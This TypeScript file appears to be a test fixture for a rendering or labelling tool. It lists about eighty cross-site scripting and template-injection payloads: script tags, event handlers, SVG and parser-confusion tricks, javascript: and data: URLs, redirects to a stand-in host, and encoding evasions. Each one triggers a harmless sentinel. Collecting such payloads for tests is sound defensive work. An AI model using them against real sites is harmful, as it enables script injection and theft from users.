import { asOneLine } from '@dryrun/shared/interview/label.ts'

/**
 * What has run in somebody's page before, or was meant to: texts that would call `x9`, or ask for an address with x9 in
 * it, if anything took them for more than words. Each is short enough for a name.
 */
export const payloads: readonly string[] = [
  // Scripts, plain, in other letters, and after what may come before them.
  '<script>x9()</script>',
  '<ScRiPt>x9()</sCrIpT>',
  '<script src=/x9.js></script>',
  '<script>//\u2028x9()</script>',
  '</title><script>x9()</script>',
  '</textarea><script>x9()</script>',
  '</script><script>x9()//',
  '--><script>x9()</script>',
  ']]><script>x9()</script>',
  '"><script>x9()</script>',
  `'><script>x9()</script>`,
  // Handlers of events.
  '<img src=/x9 onerror=x9()>',
  '<img/src=/x9/onerror=x9()>',
  '<IMG """><IMG SRC=/x9 ONERROR="x9()">',
  '<img\u00a0src=/x9\u000conerror=x9()>',
  '<body onload=x9()>',
  '<details open ontoggle=x9()>x',
  '<input autofocus onfocus=x9()>',
  '<video src=/x9 onerror=x9()>',
  '<audio><source src=/x9 onerror=x9()>',
  '<marquee onstart=x9()>x</marquee>',
  '<p style=animation:x onanimationstart=x9()>',
  '" autofocus onfocus="x9()',
  `' onmouseover='x9()`,
  '` onerror=x9() `',
  // Drawings that are documents.
  '<svg onload=x9()>',
  '<svg><script>x9()</script></svg>',
  '<svg><animate onbegin=x9() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:x9()"><text y=9>x',
  '<svg><use href="data:image/svg+xml,x9#x"/>',
  '<svg><foreignObject><img src=/x9 onerror=x9()>',
  // What changes its meaning when it is read a second time.
  '<math><mtext><mglyph><style><img src=/x9 onerror=x9()>',
  '<noscript><p title="</noscript><img src=/x9 onerror=x9()>">',
  '<template><img src=/x9 onerror=x9()></template>',
  '<xmp><p title="</xmp><img src=/x9 onerror=x9()>">',
  '<style><style/><img src=/x9 onerror=x9()>',
  '<!--<img src="--><img src=/x9 onerror=x9()//">',
  // Addresses that run, and those that lead away.
  'javascript:x9()',
  'JaVaScRiPt:x9()',
  'java\tscript:x9()',
  '\u0001javascript:x9()',
  'vbscript:x9()',
  'data:text/html,<script>x9()</script>',
  '<a href="javascript:x9()">x</a>',
  '<a href=data:text/html;base64,PHNjcmlwdD54OSgpPC9zY3JpcHQ+>',
  '<a href="//x9.example" ping="//x9.example">x</a>',
  '//x9.example/x',
  // Pages inside the page, and what changes where it looks.
  '<iframe src="javascript:x9()">',
  '<iframe srcdoc="<script>x9()</script>">',
  '<object data="data:text/html,<script>x9()</script>">',
  '<embed src="/x9">',
  '<base href="//x9.example/">',
  '<meta http-equiv=refresh content="0;url=//x9.example">',
  '<link rel=stylesheet href=//x9.example>',
  '<form action=//x9.example><button>x</button></form>',
  // Styles.
  '</style><img src=/x9 onerror=x9()>',
  '<p style="background:url(/x9)">x</p>',
  '<style>*{background:url(/x9)}</style>',
  'expression(x9())',
  // Markdown.
  '[x](javascript:x9())',
  '![x](/x9"onerror="x9())',
  '<javascript:x9()>',
  '[x]: javascript:x9()',
  // Templates.
  "{{constructor.constructor('x9()')()}}",
  '{{x9()}}',
  `\${x9()}`,
  '<%= x9() %>',
  '#{x9()}',
  `[[\${x9()}]]`,
  // Inside a script already.
  "';x9()//",
  '";x9()//',
  '\\";x9()//',
  '*/x9()/*',
  // Written in another way.
  '&lt;img src=/x9 onerror=x9()&gt;',
  '&#60;img src=/x9 onerror=x9()&#62;',
  '\\u003cimg src=/x9 onerror=x9()\\u003e',
  '\\x3cscript\\x3ex9()\\x3c/script\\x3e',
  '%3Cimg%20src=/x9%20onerror=x9()%3E',
  '+ADw-script+AD4-x9()+ADw-/script+AD4-',
  // Letters that look or run another way.
  '\u202e<script>x9()</script>',
  '\u2066<img src=/x9 onerror=x9()>\u2069',
  '\uff1cscript\uff1ex9()\uff1c/script\uff1e',
  '<\u017fcript>x9()</\u017fcript>',
]

/** The same as names, titles and tags may hold them: on one line, without marks that turn the text around them. */
export const payloadLabels: readonly string[] = payloads.map(asOneLine)
